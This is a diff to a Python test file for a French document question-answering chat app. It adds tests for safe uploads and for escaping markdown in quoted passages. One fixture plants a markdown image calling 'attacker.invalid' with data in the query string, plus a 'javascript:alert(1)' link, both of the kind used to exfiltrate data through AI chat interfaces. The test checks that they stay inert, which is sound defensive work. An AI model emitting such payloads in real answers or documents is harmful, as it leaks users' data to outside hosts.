@@ -13,6 +13,7 @@ from app.labels import EXAMPLES
 from docqa.settings import Settings, get_settings
 from docqa.store import Index
 from ingest.pipeline import ingest
+from tests.app.test_markdown import rendered
 
 APP = str(Path(__file__).resolve().parents[2] / "app" / "chat.py")
 
@@ -56,7 +57,7 @@ def test_example_button_asks_it(app):
     app.main.button[0].click().run()
     assert not app.exception
     assert app.chat_message[0].markdown[0].value == EXAMPLES[0]
-    assert any("5 000" in m.value and "[1]" in m.value for m in app.markdown)
+    assert any("5 000" in m.value and r"\[1\]" in m.value for m in app.markdown)
     assert not any(b.label in EXAMPLES for b in app.main.button)
 
 
@@ -64,7 +65,7 @@ def test_ask_shows_status_answer_and_cited_source(app):
     app.chat_input[0].set_value("Combien d'emplois d'ici 2025 ?").run()
     assert not app.exception
     assert [s.label for s in app.status] == ["Réponse trouvée"]
-    assert any("5 000" in m.value and "[1]" in m.value for m in app.markdown)
+    assert any("5 000" in m.value and r"\[1\]" in m.value for m in app.markdown)
     assert any(e.label.startswith("[1] etude — p. 2") for e in app.expander)
     assert any(c.value == "Passages lus : 3" for c in app.caption)  # the small corpus: 3 chunks
 
@@ -161,6 +162,46 @@ def test_upload_adds_a_good_file_and_refuses_a_corrupt_one(fresh_app):
     assert any("corrupt PDF" in e.value for e in app.sidebar.error)
     assert not (data / "uploads" / "rapport.pdf").exists()
     assert {d.doc_id for d in Index(Settings(data_dir=data)).documents()} == {"etude", "note hdh"}
+
+
+def test_upload_never_replaces_a_document_it_did_not_create(fresh_app):
+    app, data = fresh_app
+    app.sidebar.file_uploader[0].set_value(("etude.txt", b"Autre chose.", "text/plain")).run()
+    assert not app.exception and any("corpus" in e.value and "docqa ingest" in e.value for e in app.sidebar.error)
+    app.sidebar.file_uploader[0].set_value(("note.txt", "Première version.".encode(), "text/plain")).run()
+    app.sidebar.file_uploader[0].set_value(("note.md", "Deuxième version.".encode(), "text/plain")).run()
+    assert any("already exists" in e.value for e in app.sidebar.error)
+    app.sidebar.checkbox[0].check().run()
+    app.sidebar.file_uploader[0].set_value(("note.md", "Deuxième version.".encode(), "text/plain")).run()
+    assert any("note.md ajouté" in s.value for s in app.sidebar.success)
+    assert sorted(p.name for p in (data / "uploads").iterdir()) == ["note.md"]
+    index = Index(Settings(data_dir=data))
+    assert [len(d.content_hash) > 0 for d in index.documents()] == [True, True]
+    assert "Environ 5 000 emplois" in index.page_text("etude", None)
+
+
+def test_document_markdown_is_not_rendered(tmp_path, monkeypatch):
+    corpus = tmp_path / "corpus"
+    corpus.mkdir()
+    (corpus / "piege.txt").write_text(
+        "Le budget du Health Data Hub était de 9,7 M€ en 2020 ![x](http://attacker.invalid/leak.png?q=budget) "
+        "[clic](javascript:alert(1)).",
+        encoding="utf-8",
+    )
+    settings = Settings(data_dir=tmp_path / "data")
+    ingest([corpus], Index(settings), settings)
+    monkeypatch.setenv("DOCQA_DATA_DIR", str(settings.data_dir))
+    get_settings.cache_clear()
+    at = AppTest.from_file(APP, default_timeout=120)
+    at.run()
+    at.chat_input[0].set_value("Quel était le budget du Health Data Hub en 2020 ?").run()
+    get_settings.cache_clear()
+    shown = [m.value for m in at.markdown if "attacker.invalid" in m.value]
+    assert shown  # the passage quoted, as an answer or as the closest passage
+    for markdown in shown:
+        tokens = rendered(markdown)
+        assert not {t.type for t in tokens} & {"image", "link_open"}, markdown
+        assert "[clic](javascript:alert(1))" in "".join(t.content for t in tokens if t.type == "text")
 
 
 def test_llm_endpoint_down_is_a_clear_message_with_the_extractive_answer(data_dir, monkeypatch):
